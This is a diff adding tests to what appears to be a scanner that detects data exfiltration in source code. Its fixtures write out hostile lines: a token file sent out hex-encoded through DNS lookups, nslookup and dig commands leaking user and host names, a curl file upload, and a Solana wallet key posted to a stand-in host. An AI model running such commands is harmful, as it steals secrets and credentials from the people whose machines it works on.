@@ -41,3 +41,35 @@ def test_uploading_a_project_file_or_sending_a_payload_through_a_session_stays_q
     sock.sendall(message.encode())
     """
     assert _lines(source) == [] and below_medium(source)
+
+
+def test_exfiltration_dns_through_lookup_commands_and_resolver_objects():
+    source = """
+    import os, platform, subprocess
+    import dns.resolver
+    resolver = dns.resolver.Resolver()
+    secret = open('token').read().encode().hex()
+    resolver.resolve(f'{secret[:60]}.k.zone.example', 'TXT')
+    subprocess.run(['nslookup', f"{os.environ.get('USER', 'u')}.{platform.node()}.zone.example"])
+    os.system('dig +short $(whoami).$(hostname).zone.example')
+    """
+    assert [line for rule, line in found(source) if rule == "exfiltration.dns"] == [6, 7, 8]
+
+
+def test_looking_up_a_fixed_name_with_a_command_is_quiet():
+    source = """
+    import subprocess
+    subprocess.run(['nslookup', 'api.example.org'])
+    resolver.resolve('example.org', 'MX')
+    """
+    assert "exfiltration.dns" not in {rule for rule, _ in found(source)}
+
+
+def test_exfiltration_host_data_files_uploaded_with_curl_and_wallets_sent():
+    source = """
+    import os, requests, subprocess
+    subprocess.run(['curl', '-s', '-F', 'f=@/tmp/s.png', 'https://img.example/up'])
+    solana = open(os.path.expanduser('~/.config/solana/id.json')).read()
+    requests.post('https://w.example/m', json={'sol': solana})
+    """
+    assert _lines(source) == [3, 5]
